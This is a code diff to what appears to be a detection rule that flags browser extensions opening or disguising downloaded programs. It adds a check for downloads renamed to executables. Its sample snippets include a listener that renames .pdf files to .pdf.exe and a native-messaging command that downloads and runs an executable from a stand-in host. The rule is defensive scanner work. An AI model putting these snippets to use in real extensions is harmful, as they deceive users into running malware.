@@ -1,4 +1,5 @@
 import {
+  argOf,
   type Call,
   callsNamed,
   callsOf,
@@ -9,6 +10,7 @@ import {
   posOf,
   propertyOf,
   receiverOf,
+  resolve,
   type ScriptFacts,
   writesOf,
 } from '../../facts/javascript/query.ts';
@@ -67,10 +69,14 @@ export const opensDownloadedProgram = defineRule({
     yield* nativeCommands(judged);
     yield* assembledPrograms(judged);
     yield* replacedDownloads(judged);
+    yield* renamedDownloads(judged);
     yield* downloads(judged);
   }),
   examples: {
     bad: [
+      backgroundExample(
+        'chrome.downloads.onDeterminingFilename.addListener((item, suggest) => { if (item.filename.endsWith(".pdf")) suggest({ filename: item.filename.replace(".pdf", ".pdf.exe") }); });',
+      ),
       backgroundExample(
         'chrome.runtime.connectNative("com.helper").postMessage({ run: "cmd.exe /c curl https://x.example/a.exe -o a.exe && a.exe" });',
       ),
@@ -248,6 +254,18 @@ function* replacedDownloads({ script, facts, hit }: Judged): Iterable<Hit> {
 }
 
 type Weight = NonNullable<Parameters<Judged['hit']>[1]>;
+
+/** Files that get a program's name while they are downloaded. */
+function* renamedDownloads({ script, hit }: Judged): Iterable<Hit> {
+  for (const event of callsOf(script, 'chrome.downloads.onDeterminingFilename.addListener'))
+    for (const value of callsIn(script, event.args[0] ?? 0)) {
+      const name = pattern(script, propertyOf(script, argOf(script, value, 0), 'filename'));
+      const made = resolve(script, propertyOf(script, argOf(script, value, 0), 'filename'));
+      const by = opOf(script, made) === Op.call ? pattern(script, argOf(script, made, 1)) : '';
+      if (PROGRAM.test(name) || PROGRAM.test(by))
+        yield hit(value, { severity: 'critical', confidence: 'high', message: say('download-replaced') });
+    }
+}
 
 function* downloads(judged: Judged): Iterable<Hit> {
   const { script, hit } = judged;
